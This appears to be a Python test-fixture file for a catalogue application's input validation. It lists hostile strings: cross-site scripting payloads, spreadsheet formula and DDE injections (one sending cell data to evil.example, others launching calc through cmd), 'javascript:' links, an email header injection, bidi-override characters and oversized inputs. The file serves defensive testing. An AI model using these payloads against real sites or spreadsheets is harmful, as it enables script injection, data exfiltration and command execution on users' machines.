"""Texts that mean harm, and what fields may not take at all."""

PAYLOADS = {
    "script": "</script><script>alert(1)</script>",
    "picture": "\"><img src=x onerror=alert(2)>",
    "quotes": "'\"\\\"' \\u003cb\\u003e \\n `${alert(3)}`",
    "markup": "]]> <![CDATA[x]]> &amp; &#60;b&#62; <!-- </title></textarea></style>",
    "template": "{{ 7*7 }} {% if x %} {# y #} {title} {0} %s $& $1",
    "formula": "=HYPERLINK(\"https://evil.example/?\"&A1;\"x\")",
    "command": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "quoted": "'=1+1",
    "wide": "\uff1d1+1",
    "query": "a=1&b=2#c?d;e,f\\;g\\,h%00%0D%0A%E2%80%AE+",
    "turned": "abc\u202edef\u2066ghi\u2069\u2069\u2067jkl \u200f!",
    "lines": "one\u2028two\u2029three four",
    "breaks": "one\nتوصيل: 0\r\nthree\ttab",
    "pairs": "x" + "\U0001d54f" * 400,
    "marks": "Z" + "\u0301\u0310\u0304" * 200,
    "faces": "\U0001d54f \U0001f469\u200d\U0001f469\u200d\U0001f467 e\u0301 \ufdfa",
    "long": "m" * 3_000,
    "طويل": "م" * 1_500,
    "endless": "W" * 400,
}
# No text holds more than 10,000 letters: so many stand in one title, and 100 kB in the text below it, over
# which Chromium computes for half a minute.
ENDLESS = "W" * 9_500
BODY = "م" * 50_000
# What a field may hold at most, by its type.
LIMITS = {"summary": 300, "label": 80, "size": 40, "colour": 40}
# Fields that only some files may break: refused with their place.
REFUSED = {
    "a control": ("products", "title", '"a\\0b"'),
    "a bell": ("products", "care", '"a\\x07b"'),
    "a control of C1": ("products", "origin", '"a\\x9Bb"'),
    "a next line": ("products", "title", '"a\\Nb"'),
    "a raw control": ("products", "title", "a\x1bb"),
    "a title of 100 kB": ("products", "title", "x" * 100_000),
    "a summary without end": ("products", "summary", "x" * 50_000),
    "a telephone that is markup": ("merchants", "phone", "'\"><script>'"),
    "a telephone with a query": ("merchants", "phone", "'+970599000001?text=x'"),
    "an address of mail with a header": ("merchants", "email", "'a@b.example?bcc=c@d.example'"),
    "an address that runs": ("merchants", "website", "javascript:alert(1)"),
    "a payment link that runs": ("products", "payment-link", "javascript:alert(1)"),
    "a currency that is markup": ("products", "price", "'1 <b>'"),
    "a GTIN that is markup": ("products", "gtin", "'<script>'"),
}
